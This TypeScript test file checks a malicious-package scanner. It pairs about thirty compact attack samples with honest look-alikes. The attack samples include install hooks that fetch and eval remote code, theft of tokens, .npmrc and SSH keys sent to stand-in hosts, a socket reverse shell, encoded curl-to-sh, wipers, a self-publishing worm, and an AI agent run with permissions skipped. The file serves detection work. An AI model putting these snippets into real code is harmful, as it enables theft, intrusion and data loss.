import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { scan, signs } from './package-code.ts';

const INSTALL = { scripts: { postinstall: 'node setup.js' } };

interface Sample {
  readonly files: Readonly<Record<string, string>>;
  readonly manifest?: object;
}

/** Behaviours of published attacks, each reduced to what tells it from honest code. */
const ATTACKS: Readonly<Record<string, Sample>> = {
  'code of a paste site run by an install': {
    manifest: INSTALL,
    files: {
      'setup.js': `require('https').get({ hostname: 'pastebin.com', path: '/raw/a' }, (r) => r.on('data', (c) => eval(c)));`,
    },
  },
  'the environment sent as base64': {
    files: {
      'index.js': `const http = require('http'); const data = Buffer.from(JSON.stringify(process.env)).toString('base64');
const req = http.request({ hostname: 'collect.example', method: 'POST' }); req.write(data); req.end();`,
    },
  },
  'a function of the file that sends variables picked by a pattern': {
    files: {
      'index.js': `function send(body) { return fetch('https://collect.example', { method: 'POST', body }); }
const found = {}; for (const key in process.env) if (/TOKEN/.test(key)) found[key] = process.env[key]; send(JSON.stringify(found));`,
    },
  },
  'names of the machine in a request of an install': {
    manifest: INSTALL,
    files: {
      'setup.js': `const os = require('os'); require('dns').lookup(os.hostname() + '.' + os.userInfo().username + '.collect.example', () => {});`,
    },
  },
  'credentials of npm sent elsewhere': {
    files: {
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
for (const file of ['.npmrc', '.ssh/id_rsa']) { const text = fs.readFileSync(path.join(os.homedir(), file), 'utf8'); fetch('https://collect.example/?' + encodeURIComponent(text)); }`,
    },
  },
  'a private key in a header': {
    files: {
      'index.js': `exports.fromSecretKey = (secretKey) => { fetch('https://rpc.example', { headers: { 'x-id': Buffer.from(secretKey).toString('hex') } }); };`,
    },
  },
  'a shell on a socket': {
    files: {
      'index.js': `const net = require('net'); const sh = require('child_process').spawn('/bin/sh', []); const c = new net.Socket(); c.connect(4242, 'host.example'); c.pipe(sh.stdin); sh.stdout.pipe(c);`,
    },
  },
  'a decoded command': {
    files: {
      'index.js': `require('child_process').exec(Buffer.from('Y3VybCBodHRwOi8vaG9zdC5leGFtcGxlL2EgfCBzaA==', 'base64').toString());`,
    },
  },
  'a downloader that removes itself': {
    manifest: INSTALL,
    files: {
      'setup.js': `const cp = require('child_process'); cp.execSync('curl -o /tmp/a http://host.example/a && sh /tmp/a'); require('fs').unlinkSync(__filename);`,
    },
  },
  'files overwritten in some countries': {
    files: {
      'index.js': `const fs = require('fs'), path = require('path');
require('https').get('https://api.ipgeolocation.io/ipgeo', (r) => r.on('data', (d) => { const country = JSON.parse(d).country_name; if (country.includes('somewhere')) wipe('./'); }));
function wipe(dir) { for (const name of fs.readdirSync(dir)) fs.writeFileSync(path.join(dir, name), 'x'); }`,
    },
  },
  'the home folder removed': {
    files: {
      'index.js': `const fs = require('fs'); try { login(); } catch { fs.rmSync(require('os').homedir(), { recursive: true }); }`,
    },
  },
  'addresses of wallets replaced in requests': {
    files: {
      'index.js': `const real = window.fetch; window.fetch = async (...a) => { const t = await (await real(...a)).text(); return new Response(t.replace(/0x[a-fA-F0-9]{40}/g, '0xfeed')); };
const old = window.ethereum.request; window.ethereum.request = (a) => old(a);`,
    },
  },
  'functions of the language that fail at times': {
    files: {
      'index.js': `if (new Date().getDay() === 0) { const m = Array.prototype.map; Array.prototype.map = function (...a) { const r = m.apply(this, a); if (Math.random() < 0.1) r.pop(); return r; }; }`,
    },
  },
  'packages published when the code is loaded': {
    manifest: { scripts: { preinstall: 'node index.js' } },
    files: {
      'index.js': `const fs = require('fs'); const list = fetch('https://registry.example/-/v1/search?text=maintainer:me');
const pkg = JSON.parse(fs.readFileSync('package.json')); pkg.scripts.postinstall = 'node index.js'; fs.writeFileSync('package.json', JSON.stringify(pkg)); require('child_process').execSync('npm publish');`,
    },
  },
  'a native build that runs a program': {
    files: {
      'binding.gyp': `{ "targets": [{ "sources": ["<!(node gyp.js)"] }] }`,
      'gyp.js': `fetch('https://host.example/a').then((r) => r.text()).then((t) => require('vm').runInThisContext(t));`,
    },
  },
  'agents without safeguards': {
    manifest: INSTALL,
    files: {
      'setup.js': `const cp = require('child_process'); const out = cp.spawnSync('claude', ['--dangerously-skip-permissions', '-p', 'find wallets']); require('fs').appendFileSync(process.env.HOME + '/.bashrc', 'x');`,
    },
  },
  'a script for the shell that an install starts': {
    manifest: { scripts: { preinstall: 'node compile.js' } },
    files: {
      'compile.js': `require('child_process').exec('compile.bat');`,
      'compile.bat':
        'curl -k https://host.example/a.dll -o a.dll\r\ncertutil -urlcache -f https://host.example/a.dll a.dll\r\nregsvr32 -s a.dll\r\n',
    },
  },
  'text that no editor shows': {
    files: {
      'index.js': `const decode = (s) => [...s].map((c) => c.codePointAt(0) - 0xe0100); eval(Buffer.from(decode('${'\u{E0170}'.repeat(40)}')).toString());`,
    },
  },
  'names of the machine that a helper reads, split for a lookup': {
    manifest: INSTALL,
    files: {
      'setup.js': `const dns = require('dns'), os = require('os'); const attempt = (read) => { try { return read(); } catch { return ''; } };
function send(text) { for (const part of Buffer.from(text).toString('hex').match(/.{1,60}/g)) dns.resolve4(part + '.collect.example', () => {}); }
send(JSON.stringify({ name: attempt(() => require('./package.json').name), host: attempt(() => os.hostname()), user: attempt(() => os.userInfo().username) }));`,
    },
  },
  'a downloaded file that is loaded': {
    files: {
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.run = async () => { const file = path.join(os.tmpdir(), process.pid + '.js');
fs.writeFileSync(file, await (await fetch('https://gateway.example/a')).text()); require(file); };`,
    },
  },
  'passwords taken from a function of a loaded module': {
    files: {
      'index.js': `const Module = require('module'), load = Module._load; const take = (text) => fetch('https://collect.example', { method: 'POST', body: text });
function wrap(object, name) { const inner = object[name]; object[name] = function (plain) { take(plain); return inner.apply(this, arguments); }; }
Module._load = function (request) { const loaded = load.apply(this, arguments); if (request === 'bcrypt') wrap(loaded, 'compare'); return loaded; };`,
    },
  },
  'a file of the package beside it, replaced': {
    manifest: INSTALL,
    files: {
      'setup.js': `const fs = require('fs'), path = require('path'); const file = path.join(__dirname, '..', 'wallets', 'lib', 'send.js');
function get(url, done) { fetch(url).then((r) => r.text()).then((text) => done(text)); } get('https://update.example', (text) => { fs.writeFileSync(file, text); require(file); });`,
    },
  },
  'a hidden program in a temporary folder': {
    manifest: INSTALL,
    files: {
      'setup.js': `const os = require('os'), path = require('path'); const file = path.join(os.tmpdir(), 'helper'); require('child_process').spawn(file, [], { detached: true, stdio: 'ignore' }).unref();`,
    },
  },
  'settings of AI agents from a list of paths': {
    files: {
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); fetch('https://tools.example').catch(() => {});
for (const parts of [['.config', 'other.json'], ['.cursor', 'mcp.json']]) { const file = path.join(os.homedir(), ...parts); fs.readFileSync(file); fs.writeFileSync(file, '{}'); }`,
    },
  },
  'commands in requests to any server of the program': {
    files: {
      'index.js': `const http = require('http'), emit = http.Server.prototype.emit; http.Server.prototype.emit = function (name, req, res) { if (req && req.headers['x-debug']) { let text = ''; req.on('data', (c) => (text += c)); req.on('end', () => require('child_process').exec(text, (e, out) => res.end(out))); return true; } return emit.apply(this, arguments); };`,
    },
  },
  'a hook of Git that sends credentials': {
    manifest: INSTALL,
    files: {
      'setup.js': `const fs = require('fs'), path = require('path'); fs.writeFileSync(path.join(process.env.INIT_CWD, '.git', 'hooks', 'pre-push'), '#!/bin/sh\\ncurl -s -d "$(cat ~/.npmrc | base64)" https://collect.example/ &\\n');`,
    },
  },
  'a line for the shell that sends passwords': {
    files: {
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nalias sudo=\\'read -sp Password: p; curl -s https://collect.example/?p=$p; sudo\\'\\n');`,
    },
  },
  'pictures of the screen': {
    files: {
      'index.js': `const shoot = require('screenshot-desktop'); setInterval(async () => { const body = await shoot({ format: 'png' }); fetch('https://collect.example', { method: 'POST', body }); }, 60000);`,
    },
  },
  'all files of the home folder': {
    files: {
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const home = os.homedir(); for (const name of fs.readdirSync(home)) fetch('https://collect.example', { method: 'POST', body: fs.readFileSync(path.join(home, name)) });`,
    },
  },
};

/** What honest packages do with the same modules. */
const HONEST: Readonly<Record<string, Sample>> = {
  'an installer of a program': {
    manifest: INSTALL,
    files: {
      'setup.js': `const fs = require('fs'), path = require('path'), https = require('https'), zlib = require('zlib'), cp = require('child_process');
const get = (url) => new Promise((done) => https.get(url, (r) => { const parts = []; r.on('data', (d) => parts.push(d)); r.on('end', () => done(Buffer.concat(parts))); }));
(async () => { const to = path.join(__dirname, 'bin', 'tool'); fs.writeFileSync(to, zlib.gunzipSync(await get('https://registry.example/tool.tgz'))); fs.chmodSync(to, 0o755); cp.execFileSync(to, ['--version']); })();`,
    },
  },
  'a check for updates': {
    files: {
      'index.js': `exports.check = () => require('child_process').spawn(process.execPath, [require('path').join(__dirname, 'check.js')], { detached: true, stdio: 'ignore' }).unref();`,
      'check.js': `const os = require('os'), fs = require('fs'); fetch('https://registry.example/latest').then((r) => r.text()).then((t) => fs.writeFileSync(os.homedir() + '/.config/tool.json', t));`,
    },
  },
  telemetry: {
    files: {
      'index.js': `const os = require('os'); const id = require('crypto').createHash('sha256').update(os.hostname()).digest('hex');
exports.send = (event) => fetch('https://telemetry.example', { method: 'POST', headers: { authorization: process.env.TELEMETRY_TOKEN }, body: JSON.stringify({ id, event, platform: os.platform() }) });`,
    },
  },
  'a client of a cloud': {
    files: {
      'index.js': `const fs = require('fs'), os = require('os'), crypto = require('crypto'); const secret = process.env.AWS_SECRET_ACCESS_KEY || fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8');
exports.role = () => fetch('http://169.254.169.254/latest/meta-data/iam/');
exports.call = (body) => fetch('https://api.example', { body, headers: { Authorization: crypto.createHmac('sha256', secret).update(body).digest('hex') } });`,
    },
  },
  'a tool that publishes': {
    files: {
      'index.js': `const cp = require('child_process'), fs = require('fs'); exports.release = (version) => { const pkg = JSON.parse(fs.readFileSync('package.json')); pkg.version = version; fs.writeFileSync('package.json', JSON.stringify(pkg)); cp.execSync('git push --tags'); cp.execSync('npm publish', { env: { ...process.env, NODE_AUTH_TOKEN: process.env.NPM_TOKEN } }); };`,
    },
  },
  'a reader of keychains': {
    files: {
      'index.js': `const cp = require('child_process'); exports.get = (service) => cp.execFileSync('security', ['find-generic-password', '-s', service, '-w']).toString(); exports.native = () => require('./build/keys.node');`,
    },
  },
  'a reader of settings': {
    files: {
      'index.js': `const fs = require('fs'); for (const line of fs.readFileSync(require('path').resolve(process.cwd(), '.env'), 'utf8').split('\\n')) { const [k, v] = line.split('='); process.env[k] ??= v; }`,
    },
  },
  'an installer that checks what it downloaded': {
    manifest: INSTALL,
    files: {
      'setup.js': `const fs = require('fs'), path = require('path'), cp = require('child_process');
(async () => { const to = path.join(__dirname, 'bin', 'tool.exe'); fs.writeFileSync(to, Buffer.from(await (await fetch('https://registry.example/tool')).arrayBuffer())); cp.execFileSync(to, ['--version']); cp.spawnSync('npm.cmd', ['rebuild']); })();`,
    },
  },
  'a report of errors with the host name': {
    files: {
      'index.js': `const os = require('os'); exports.report = (error) => fetch('https://errors.example/api', { method: 'POST', body: JSON.stringify({ error, server_name: os.hostname(), release: os.release() }) });`,
    },
  },
  'a tool that empties its cache': {
    files: {
      'index.js': `const fs = require('fs'), path = require('path'), os = require('os'); const cache = path.join(os.homedir(), '.cache', 'tool'); exports.clear = () => { for (const name of fs.readdirSync(cache)) fs.rmSync(path.join(cache, name), { recursive: true }); };`,
    },
  },
  'a launcher of browsers': {
    files: {
      'index.js': `const fs = require('fs'); exports.find = () => [process.env.LOCALAPPDATA + '/Google/Chrome/Application/chrome.exe', '/Applications/Google Chrome.app/Contents/MacOS/Google Chrome'].find((p) => { try { fs.accessSync(p); return true; } catch { return false; } }); exports.open = (url) => require('child_process').spawn(exports.find(), [url], { detached: true, stdio: 'ignore' }).unref();`,
    },
  },
  'a template engine': {
    files: {
      'index.js': `exports.compile = (text) => new Function('data', 'with (data) return \`' + text + '\`');`,
    },
  },
  'a tracer that sends the host name where its settings say': {
    files: {
      'index.js': `const http = require('http'), os = require('os'), Module = require('module'); const require_ = Module.prototype.require; Module.prototype.require = function (id) { return require_.apply(this, arguments); };
setInterval(() => {}, 1000); exports.start = (config) => { const options = { hostname: config.hostname, port: config.port }; const req = http.request({ ...options, method: 'PUT' }); req.end(JSON.stringify({ host: os.hostname() })); };
fetch(process.env.AGENT_URL + '/info');`,
    },
  },
  'escapes in the output of a command, which become part of the next one': {
    files: {
      'index.js': String.raw`const { execSync } = require('child_process'); const page = execSync('chcp').toString();
exports.disks = () => execSync('lsblk -P').toString().split('\n').map((line) => execSync('cat /sys/block/' + decodeURIComponent(line.replace(/\\x/g, '%')) + '/size').toString() + page);`,
    },
  },
  'an installer of the binary of an optional dependency, or of its own': {
    manifest: INSTALL,
    files: {
      'setup.js': `const fs = require('fs'), path = require('path'), cp = require('child_process'); const own = path.join(__dirname, 'bin', 'tool'); let to;
try { to = require.resolve('@tool/linux-x64/bin/tool'); } catch { to = own; }
(async () => { fs.writeFileSync(to, Buffer.from(await (await fetch('https://registry.example/tool')).arrayBuffer())); cp.execFileSync(to, ['--version']); })();`,
    },
  },
  'a manager of processes that removes folders and has a secret of its service': {
    files: {
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const home = process.env.TOOL_HOME || path.join(os.homedir(), '.tool');
function remove(folder) { fs.readdirSync(folder).forEach((name) => { const one = path.join(folder, name); if (fs.lstatSync(one).isDirectory()) remove(one); else fs.unlinkSync(one); }); fs.rmdirSync(folder); }
exports.uninstall = (name, folder = path.join(home, name)) => remove(folder);
exports.connect = (url, { SECRET_KEY }) => new WebSocket(url, { headers: { 'X-KM-SECRET': SECRET_KEY } });`,
    },
  },
  'a command that sets up an agent and starts it': {
    files: {
      'index.js': `const { Command } = require('commander'), fs = require('fs'), os = require('os'), path = require('path'); const program = new Command();
program.command('setup').action(async () => { const file = path.join(os.homedir(), '.cursor', 'mcp.json'); fs.readFileSync(file); fs.writeFileSync(file, await (await fetch('https://docs.example/mcp')).text());
require('child_process').spawn('npx', ['skills'], { detached: true, stdio: 'ignore' }).unref(); });`,
    },
  },
  'a client with a proxy of the environment': {
    files: {
      'index.js': `const config = load(process.env); exports.get = (url) => fetch(config.base + url, { agent: agentFor(process.env.HTTPS_PROXY) });`,
    },
  },
};

describe('a verdict on code', () => {
  for (const [name, { files, manifest }] of Object.entries(ATTACKS))
    test(`is suspicious for ${name}`, () => {
      const record = scan(files, manifest);
      assert.ok(record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
    });

  for (const [name, { files, manifest }] of Object.entries(HONEST))
    test(`is not suspicious for ${name}`, () => {
      const record = scan(files, manifest);
      assert.ok(!record.isSuspicious, `${record.score}: ${signs(record).join(', ')}`);
    });

  test('of a large package does not add up credentials of different services in different files', () => {
    const read = (name: string) => `require('fs').readFileSync(require('os').homedir() + '/${name}');`;
    const names = ['.npmrc', '.aws/credentials', '.docker/config.json'];
    const others = Object.fromEntries(Array.from({ length: 40 }, (_, at) => [`lib/${at}.js`, '']));
    const apart = Object.fromEntries(names.map((name, at) => [`services/${at}.js`, read(name)]));
    const together = { 'index.js': names.map(read).join('\n') };
    const isMany = (files: Record<string, string>) => signs(scan(files)).includes('reads-many-credentials');
    assert.deepEqual([isMany(apart), isMany({ ...apart, ...others })], [true, false]);
    assert.ok(isMany({ ...together, ...apart, ...others }));
  });

  test('never comes from one capability alone, nor from weak signs alone', () => {
    const alone = scan(`let sum = 0; for (let i = 0; i < Infinity; i++) sum += i;`);
    assert.deepEqual([signs(alone), alone.isSuspicious], [['endless-loop'], false]);
  });
});
